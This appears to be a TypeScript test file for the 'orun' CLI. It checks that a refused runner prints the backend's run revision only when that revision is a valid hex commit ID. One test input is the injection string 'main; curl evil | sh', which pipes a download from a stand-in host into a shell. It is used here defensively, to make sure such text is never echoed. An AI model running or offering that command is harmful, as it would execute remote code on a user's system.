// A runner refused because the run was started from another plan names the commit the run was started from, as
// GET /v1/runs/R's `revision` says. Any runner of the namespace may have set it, so only a hex commit ID is used:
// a number crashed the refusal ("runCommit.slice is not a function"), text was printed as a commit to check out.
// Real processes: a stub backend on loopback refusing the run and answering its view, `orun run` runners.
import assert from "node:assert/strict";
import fs from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { killAllChildren, spawnOrun, writePlan } from "./processes.js";

const COMMIT = "abcdef0123456789abcdef0123456789abcdef01";

describe("a refused runner and the run's revision from the backend", () => {
  let dir: string;
  let server: http.Server;
  let url = "";
  let revision: unknown;
  before(async () => {
    dir = await fs.mkdtemp(path.join(os.tmpdir(), "orun-run-revision-"));
    server = http.createServer((req, res) => {
      res.setHeader("Content-Type", "application/json");
      if (req.method === "POST" && req.url === "/v1/runs") {
        res.statusCode = 409;
        res.end(JSON.stringify({ error: "Run exists with different plan checksum", code: "CONFLICT" }));
        return;
      }
      if (req.method === "GET" && req.url?.startsWith("/v1/runs/")) {
        res.end(JSON.stringify({ runId: "rev-1", status: "running", planChecksum: "0123456789ab", revision, jobTotal: 1, jobDone: 0, jobFailed: 0 }));
        return;
      }
      res.statusCode = 404;
      res.end(JSON.stringify({ error: "not found", code: "NOT_FOUND" }));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    killAllChildren();
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
    await fs.rm(dir, { recursive: true, force: true });
  });

  const refusal = async () => {
    const planFile = await writePlan(dir, "revision", [{ id: "api@dev.build", run: "echo built" }]);
    const env = { ORUN_TOKEN: "orun_t", GITHUB_ACTIONS: "", ORUN_REMOTE_STATE: "", ORUN_EXEC_ID: "", ORUN_BACKEND_RETRY_MS: "1000" };
    return spawnOrun(["run", planFile, "--remote-state", "--backend-url", url, "--exec-id", "rev-1"], { cwd: dir, env }).done;
  };

  for (const told of [42, "main; curl evil | sh", ["x"]]) {
    it(`ignores a revision that is no commit ID (${JSON.stringify(told)})`, async () => {
      revision = told;
      const result = await refusal();
      assert.equal(result.code, 1, result.output);
      assert.match(result.output, /✕ remote run rev-1 was started from plan 0123456789ab, not from this runner's plan/);
      assert.match(result.output, /check out the commit run rev-1 was started from/);
      assert.doesNotMatch(result.output, /is not a function|curl evil|at commit/);
    });
  }

  it("names a commit ID it sends", async () => {
    revision = COMMIT;
    const result = await refusal();
    assert.equal(result.code, 1, result.output);
    assert.match(result.output, new RegExp(`started from plan 0123456789ab at commit ${COMMIT.slice(0, 12)}, `));
    assert.ok(result.output.includes(`check out commit ${COMMIT} (the one run rev-1 was started from)`), result.output);
  });
});
